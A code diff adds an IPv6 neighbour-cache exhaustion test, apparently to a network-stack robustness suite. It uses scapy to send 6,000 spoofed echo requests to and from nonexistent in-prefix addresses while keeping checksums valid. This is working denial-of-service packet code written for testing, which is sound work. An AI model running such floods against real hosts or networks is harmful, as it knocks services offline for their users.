@@ -550,6 +550,25 @@ def neighbours6(wire, _):
     seen("6000 solicitations, each from another neighbour")
 
 
+def prefix_exhaustion(wire, _):
+    """Echo requests to hosts of the prefix that are not there, as if we forwarded for them, and to
+    us from such hosts: each answer is for a neighbour that nobody has."""
+    from scapy.all import Ether, ICMPv6EchoRequest, IPv6, Raw
+    prefix = OURS6.split(":")[0]
+    def echo(src, dst):
+        return bytes(Ether(src=MY_MAC, dst=wire.mac) / IPv6(src=src, dst=dst) / ICMPv6EchoRequest())
+    absent = echo(prefix + "::ffff:1", prefix + "::ffff:0")
+    asker = echo(prefix + "::ffff:0", OURS6)
+    for n in range(6_000):
+        # The last two words of an address, with one sum: the checksum stays right.
+        words = struct.pack("!HH", 0xffff - n, n)
+        wire.socket.send(Raw(absent[:50] + words + absent[54:]))
+        wire.socket.send(Raw(asker[:34] + words + asker[38:]))
+        if n % 500 == 0:
+            time.sleep(0.05)
+    seen("6000 packets for neighbours that are not there, 6000 from such")
+
+
 # Attacks on what configures a host.
 
 def redirects(wire, _):
